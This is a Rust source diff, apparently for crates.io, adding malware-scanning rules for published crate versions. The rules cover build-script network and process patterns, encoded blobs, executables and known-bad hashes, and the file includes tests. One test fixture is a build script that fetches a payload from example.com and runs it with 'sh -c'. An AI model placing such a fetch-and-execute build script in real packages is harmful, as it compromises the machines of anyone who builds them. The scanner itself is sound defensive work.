@@ -0,0 +1,552 @@
+//! Rules that scan the files of newly published versions for signs of
+//! malicious code.
+//!
+//! The rules are run by the [`ScanVersion`](crate::worker::jobs::ScanVersion)
+//! background job after a version has been published. Their findings are
+//! stored per version and reported to the configured addresses, so that an
+//! admin can decide whether to quarantine the version.
+//!
+//! New rules can be added by implementing the [`Rule`] trait and adding them
+//! to the [`RULES`] list. Which rules are run can be configured via the
+//! `SCAN_RULES` environment variable.
+
+use crates_io_env_vars::var;
+use crates_io_tarball::SourceFile;
+use std::collections::{BTreeMap, HashSet};
+
+/// All available rules, in the order in which they are run.
+pub static RULES: &[&dyn Rule] = &[
+    &BuildScriptNetworkAccess,
+    &BuildScriptProcess,
+    &ObfuscatedBlob,
+    &BinaryFile,
+    &KnownBadHash,
+];
+
+/// The code patterns of a build script that indicate network access.
+static NETWORK_PATTERNS: &[&str] = &[
+    "TcpStream",
+    "UdpSocket",
+    "ToSocketAddrs",
+    "reqwest::",
+    "ureq::",
+    "curl::",
+    "hyper::",
+    "http://",
+    "https://",
+];
+
+/// The code patterns of a build script that indicate spawning processes,
+/// other than the usual compiler invocations.
+static PROCESS_PATTERNS: &[&str] = &[
+    "Command::new",
+    "process::Command",
+    "libc::exec",
+    "libc::system",
+];
+
+/// The magic bytes of executable file formats. PE files are detected by
+/// [`is_pe_file`] instead, since their `MZ` magic is too short to be reliable.
+static EXECUTABLE_MAGIC: &[&[u8]] = &[
+    // ELF
+    b"\x7fELF",
+    // Mach-O, 32 and 64 bit, both byte orders, and universal binaries
+    b"\xfe\xed\xfa\xce",
+    b"\xfe\xed\xfa\xcf",
+    b"\xce\xfa\xed\xfe",
+    b"\xcf\xfa\xed\xfe",
+    b"\xca\xfe\xba\xbe",
+];
+
+/// The file extensions of executables and shared libraries.
+static EXECUTABLE_EXTENSIONS: &[&str] = &["exe", "dll", "so", "dylib"];
+
+/// The minimum length of a run of base64 or hex characters in a source file
+/// that is considered an obfuscated blob.
+const MIN_BLOB_LENGTH: usize = 2048;
+
+pub trait Rule: Sync {
+    /// The name of the rule, which is used to enable it in the configuration
+    /// and stored alongside its findings.
+    fn name(&self) -> &'static str;
+
+    /// Returns a message if the file violates the rule.
+    ///
+    /// The contents of the file are `None` if it was too large to be read.
+    fn check(
+        &self,
+        path: &str,
+        file: &SourceFile,
+        package: &Package,
+        config: &Config,
+    ) -> Option<String>;
+}
+
+/// Information about the package that the scanned files belong to.
+#[derive(Debug, PartialEq, Eq)]
+pub struct Package {
+    /// The path of the build script, or `None` if the package has none.
+    pub build_script: Option<String>,
+}
+
+impl Package {
+    /// Reads the information from the `Cargo.toml` file of the package.
+    ///
+    /// The build script defaults to `build.rs`, like in Cargo, and also if
+    /// the manifest can't be read.
+    pub fn from_files(files: &BTreeMap<String, SourceFile>) -> Self {
+        let manifest = files
+            .get("Cargo.toml")
+            .and_then(|file| file.contents.as_deref())
+            .and_then(|manifest| std::str::from_utf8(manifest).ok())
+            .and_then(|manifest| manifest.parse::<toml::Table>().ok());
+
+        let build = manifest
+            .as_ref()
+            .and_then(|manifest| manifest.get("package")?.get("build"));
+
+        let build_script = match build {
+            Some(toml::Value::String(path)) => {
+                let path = path.replace('\\', "/");
+                Some(path.trim_start_matches("./").to_string())
+            }
+            Some(toml::Value::Boolean(false)) => None,
+            _ => Some("build.rs".to_string()),
+        };
+
+        Self { build_script }
+    }
+}
+
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Config {
+    /// The names of the rules that are run.
+    pub enabled_rules: HashSet<String>,
+    /// The SHA256 checksums of files that are known to be malicious.
+    pub known_bad_hashes: HashSet<[u8; 32]>,
+    /// The e-mail addresses that are notified of findings.
+    pub notification_emails: Vec<String>,
+    /// Whether findings page the on-call team through PagerDuty.
+    pub page_on_call: bool,
+}
+
+impl Default for Config {
+    fn default() -> Self {
+        Self {
+            enabled_rules: all_rule_names(),
+            known_bad_hashes: HashSet::new(),
+            notification_emails: Vec::new(),
+            page_on_call: false,
+        }
+    }
+}
+
+impl Config {
+    /// Reads the configuration from the `SCAN_RULES`,
+    /// `SCAN_KNOWN_BAD_HASHES`, `SCAN_NOTIFICATION_EMAILS` and
+    /// `SCAN_PAGE_ON_CALL` environment variables.
+    pub fn from_environment() -> anyhow::Result<Self> {
+        let split = |list: String| {
+            list.split(',')
+                .map(|s| s.trim().to_string())
+                .filter(|s| !s.is_empty())
+                .collect::<Vec<_>>()
+        };
+
+        let known_bad_hashes = var("SCAN_KNOWN_BAD_HASHES")?
+            .map(split)
+            .unwrap_or_default()
+            .into_iter()
+            .map(|hash| {
+                let mut checksum = [0; 32];
+                hex::decode_to_slice(&hash, &mut checksum).map_err(|error| {
+                    anyhow::anyhow!(
+                        "invalid SHA256 checksum `{hash}` in SCAN_KNOWN_BAD_HASHES: {error}"
+                    )
+                })?;
+                Ok(checksum)
+            })
+            .collect::<anyhow::Result<_>>()?;
+
+        Ok(Self {
+            enabled_rules: var("SCAN_RULES")?
+                .map(|rules| split(rules).into_iter().collect())
+                .unwrap_or_else(all_rule_names),
+            known_bad_hashes,
+            notification_emails: var("SCAN_NOTIFICATION_EMAILS")?
+                .map(split)
+                .unwrap_or_default(),
+            page_on_call: var("SCAN_PAGE_ON_CALL")?.is_some(),
+        })
+    }
+}
+
+#[derive(Debug, PartialEq, Eq)]
+pub struct Finding {
+    pub rule: &'static str,
+    pub path: String,
+    pub message: String,
+}
+
+/// Runs all enabled rules against the files of a version and returns their
+/// findings.
+pub fn run(files: &BTreeMap<String, SourceFile>, config: &Config) -> Vec<Finding> {
+    let rules = RULES
+        .iter()
+        .filter(|rule| config.enabled_rules.contains(rule.name()))
+        .collect::<Vec<_>>();
+
+    let package = Package::from_files(files);
+
+    files
+        .iter()
+        .flat_map(|(path, file)| {
+            let package = &package;
+            rules.iter().filter_map(move |rule| {
+                let message = rule.check(path, file, package, config)?;
+                Some(Finding {
+                    rule: rule.name(),
+                    path: path.clone(),
+                    message,
+                })
+            })
+        })
+        .collect()
+}
+
+/// Returns the names of all available rules.
+pub fn all_rule_names() -> HashSet<String> {
+    RULES.iter().map(|rule| rule.name().to_string()).collect()
+}
+
+/// Returns the contents of the file as text if it is the build script of the
+/// package.
+fn build_script<'a>(path: &str, file: &'a SourceFile, package: &Package) -> Option<&'a str> {
+    if package.build_script.as_deref() != Some(path) {
+        return None;
+    }
+
+    std::str::from_utf8(file.contents.as_deref()?).ok()
+}
+
+/// Whether the contents are a PE (Windows) executable: the `MZ` header points
+/// to the `PE\0\0` signature with the 32 bit offset at `0x3c`.
+fn is_pe_file(contents: &[u8]) -> bool {
+    if !contents.starts_with(b"MZ") {
+        return false;
+    }
+
+    let Some(offset) = contents.get(0x3c..0x40) else {
+        return false;
+    };
+    let offset = u32::from_le_bytes([offset[0], offset[1], offset[2], offset[3]]) as usize;
+
+    offset
+        .checked_add(4)
+        .and_then(|end| contents.get(offset..end))
+        .is_some_and(|signature| signature == b"PE\0\0")
+}
+
+fn find_patterns(source: &str, patterns: &[&str]) -> Vec<String> {
+    patterns
+        .iter()
+        .filter(|pattern| source.contains(**pattern))
+        .map(|pattern| format!("`{pattern}`"))
+        .collect()
+}
+
+struct BuildScriptNetworkAccess;
+
+impl Rule for BuildScriptNetworkAccess {
+    fn name(&self) -> &'static str {
+        "build_script_network_access"
+    }
+
+    fn check(
+        &self,
+        path: &str,
+        file: &SourceFile,
+        package: &Package,
+        _config: &Config,
+    ) -> Option<String> {
+        let patterns = find_patterns(build_script(path, file, package)?, NETWORK_PATTERNS);
+        (!patterns.is_empty()).then(|| {
+            format!(
+                "the build script may access the network: {}",
+                patterns.join(", ")
+            )
+        })
+    }
+}
+
+struct BuildScriptProcess;
+
+impl Rule for BuildScriptProcess {
+    fn name(&self) -> &'static str {
+        "build_script_process"
+    }
+
+    fn check(
+        &self,
+        path: &str,
+        file: &SourceFile,
+        package: &Package,
+        _config: &Config,
+    ) -> Option<String> {
+        let patterns = find_patterns(build_script(path, file, package)?, PROCESS_PATTERNS);
+        (!patterns.is_empty()).then(|| {
+            format!(
+                "the build script may spawn processes: {}",
+                patterns.join(", ")
+            )
+        })
+    }
+}
+
+struct ObfuscatedBlob;
+
+impl Rule for ObfuscatedBlob {
+    fn name(&self) -> &'static str {
+        "obfuscated_blob"
+    }
+
+    fn check(
+        &self,
+        path: &str,
+        file: &SourceFile,
+        _package: &Package,
+        _config: &Config,
+    ) -> Option<String> {
+        if !path.ends_with(".rs") {
+            return None;
+        }
+
+        let contents = file.contents.as_deref()?;
+        let is_blob_char = |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=');
+        let longest_run = contents
+            .split(|b| !is_blob_char(b))
+            .map(<[u8]>::len)
+            .max()
+            .unwrap_or_default();
+
+        (longest_run >= MIN_BLOB_LENGTH)
+            .then(|| format!("the file contains an encoded blob of {longest_run} characters"))
+    }
+}
+
+struct BinaryFile;
+
+impl Rule for BinaryFile {
+    fn name(&self) -> &'static str {
+        "binary_file"
+    }
+
+    fn check(
+        &self,
+        path: &str,
+        file: &SourceFile,
+        _package: &Package,
+        _config: &Config,
+    ) -> Option<String> {
+        let extension = path.rsplit_once('.').map(|(_, extension)| extension);
+        if extension.is_some_and(|extension| EXECUTABLE_EXTENSIONS.contains(&extension)) {
+            return Some("the package contains an executable or shared library".into());
+        }
+
+        let contents = file.contents.as_deref()?;
+        let is_executable = is_pe_file(contents)
+            || EXECUTABLE_MAGIC
+                .iter()
+                .any(|magic| contents.starts_with(magic));
+
+        is_executable.then(|| "the package contains an executable".into())
+    }
+}
+
+struct KnownBadHash;
+
+impl Rule for KnownBadHash {
+    fn name(&self) -> &'static str {
+        "known_bad_hash"
+    }
+
+    fn check(
+        &self,
+        _path: &str,
+        file: &SourceFile,
+        _package: &Package,
+        config: &Config,
+    ) -> Option<String> {
+        config.known_bad_hashes.contains(&file.checksum).then(|| {
+            let checksum = hex::encode(file.checksum);
+            format!("the file matches the known malicious file with the SHA256 checksum {checksum}")
+        })
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use sha2::{Digest, Sha256};
+
+    fn files(files: &[(&str, &[u8])]) -> BTreeMap<String, SourceFile> {
+        files
+            .iter()
+            .map(|(path, contents)| {
+                let file = SourceFile {
+                    size: contents.len() as u64,
+                    checksum: Sha256::digest(contents).into(),
+                    contents: Some(contents.to_vec()),
+                };
+                (path.to_string(), file)
+            })
+            .collect()
+    }
+
+    fn rule_names(findings: &[Finding]) -> Vec<(&'static str, &str)> {
+        findings
+            .iter()
+            .map(|finding| (finding.rule, finding.path.as_str()))
+            .collect()
+    }
+
+    #[test]
+    fn clean_package() {
+        let files = files(&[
+            ("Cargo.toml", b"[package]\nname = \"foo\"\n"),
+            (
+                "build.rs",
+                b"fn main() { println!(\"cargo:rerun-if-changed=build.rs\"); }",
+            ),
+            ("src/lib.rs", b"pub fn foo() {}"),
+        ]);
+
+        assert_eq!(run(&files, &Config::default()), vec![]);
+    }
+
+    #[test]
+    fn build_script() {
+        let build_rs = br#"
+            use std::process::Command;
+            fn main() {
+                let payload = reqwest::blocking::get("https://example.com/payload").unwrap();
+                Command::new("sh").arg("-c").arg(payload.text().unwrap()).status().unwrap();
+            }
+        "#;
+        let files = files(&[("build.rs", build_rs), ("src/build.rs", build_rs)]);
+
+        let findings = run(&files, &Config::default());
+        assert_eq!(
+            rule_names(&findings),
+            vec![
+                ("build_script_network_access", "build.rs"),
+                ("build_script_process", "build.rs"),
+            ]
+        );
+        assert_eq!(
+            findings[0].message,
+            "the build script may access the network: `reqwest::`, `https://`"
+        );
+        assert_eq!(
+            findings[1].message,
+            "the build script may spawn processes: `Command::new`, `process::Command`"
+        );
+    }
+
+    #[test]
+    fn custom_build_script_path() {
+        let build_rs = b"fn main() { std::process::Command::new(\"sh\").status().unwrap(); }";
+        let custom_path = b"[package]\nname = \"foo\"\nbuild = \"./tools/build.rs\"\n";
+        let disabled = b"[package]\nname = \"foo\"\nbuild = false\n";
+
+        let with_custom_path = files(&[
+            ("Cargo.toml", custom_path),
+            ("build.rs", build_rs),
+            ("tools/build.rs", build_rs),
+        ]);
+        let findings = run(&with_custom_path, &Config::default());
+        assert_eq!(
+            rule_names(&findings),
+            vec![("build_script_process", "tools/build.rs")]
+        );
+
+        // Packages without a build script
+        let without_build_script = files(&[("Cargo.toml", disabled), ("build.rs", build_rs)]);
+        assert_eq!(run(&without_build_script, &Config::default()), vec![]);
+    }
+
+    #[test]
+    fn obfuscated_blob() {
+        let blob = format!("const PAYLOAD: &str = \"{}\";", "QUJD".repeat(1024));
+        let files = files(&[
+            ("src/lib.rs", blob.as_bytes()),
+            ("tests/data.txt", blob.as_bytes()),
+        ]);
+
+        let findings = run(&files, &Config::default());
+        assert_eq!(
+            rule_names(&findings),
+            vec![("obfuscated_blob", "src/lib.rs")]
+        );
+        assert_eq!(
+            findings[0].message,
+            "the file contains an encoded blob of 4096 characters"
+        );
+    }
+
+    #[test]
+    fn binary_files() {
+        let mut pe = b"MZ".to_vec();
+        pe.resize(0x80, 0);
+        pe[0x3c] = 0x40;
+        pe[0x40..0x44].copy_from_slice(b"PE\0\0");
+
+        let files = files(&[
+            ("bin/payload", b"\x7fELF\x02\x01\x01"),
+            ("bin/payload.bin", &pe),
+            ("lib/helper.dll", b""),
+            ("src/lib.rs", b"pub fn foo() {}"),
+            // Text files that happen to start with `MZ` aren't executables
+            ("MZ.txt", b"MZ is the abbreviation of Mozambique"),
+            ("data/truncated", &pe[..0x42]),
+        ]);
+
+        let findings = run(&files, &Config::default());
+        assert_eq!(
+            rule_names(&findings),
+            vec![
+                ("binary_file", "bin/payload"),
+                ("binary_file", "bin/payload.bin"),
+                ("binary_file", "lib/helper.dll")
+            ]
+        );
+    }
+
+    #[test]
+    fn known_bad_hashes() {
+        let files = files(&[("src/lib.rs", b"evil"), ("src/main.rs", b"fn main() {}")]);
+
+        let config = Config {
+            known_bad_hashes: [Sha256::digest(b"evil").into()].into(),
+            ..Config::default()
+        };
+
+        let findings = run(&files, &config);
+        assert_eq!(
+            rule_names(&findings),
+            vec![("known_bad_hash", "src/lib.rs")]
+        );
+    }
+
+    #[test]
+    fn disabled_rules() {
+        let files = files(&[("bin/payload", b"\x7fELF\x02\x01\x01")]);
+
+        let config = Config {
+            enabled_rules: ["obfuscated_blob".to_string()].into(),
+            ..Config::default()
+        };
+
+        assert_eq!(run(&files, &config), vec![]);
+    }
+}